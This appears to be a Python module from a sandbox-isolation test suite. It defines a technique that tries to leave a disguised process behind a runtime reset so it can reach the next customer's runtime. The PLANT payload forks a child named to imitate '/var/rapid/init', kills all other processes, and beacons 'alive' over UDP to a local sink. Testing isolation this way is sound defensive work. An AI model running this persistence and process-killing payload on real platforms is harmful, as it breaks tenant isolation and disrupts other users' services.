"""Leaves a program and kills the runtime: what survives the platform's reset can access the restarted runtime."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import Alive
from dayfly.lab.gauntlet.technique import Technique

PLANT = r"""
code = "import socket,time\nend=time.time()+8\nwhile time.time()<end:\n s=socket.socket(2,2); s.sendto(b'alive',('127.0.0.1',%d)); s.close(); time.sleep(.005)" % event["sink"]

import signal
child = os.fork()
if child == 0:
    os.setsid()
    os.execv(sys.executable, ["/var/rapid/init", "-S", "-c", code])
while not open("/proc/%d/cmdline" % child).read().startswith("/var/rapid"):
    time.sleep(0.005)
others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != 1]
names = {pid: open("/proc/%d/cmdline" % pid, "rb").read() for pid in others}
for pid, name in sorted(names.items()):
    if not name.startswith(b"/var/rapid") and pid != os.getpid():
        os.kill(pid, signal.SIGKILL)
os.kill(os.getpid(), signal.SIGKILL)
"""

TECHNIQUE = Technique(
    level="L2",
    attack=("T1543", "T1489"),
    family="R1",
    must_fail_to="run while a customer of the restarted runtime is served",
    plant=PLANT,
    evidence=Alive(takes=0.15),
    resets=True,
    spoils=True,
    finding="environment.earlier-life",
    process="contained",
)
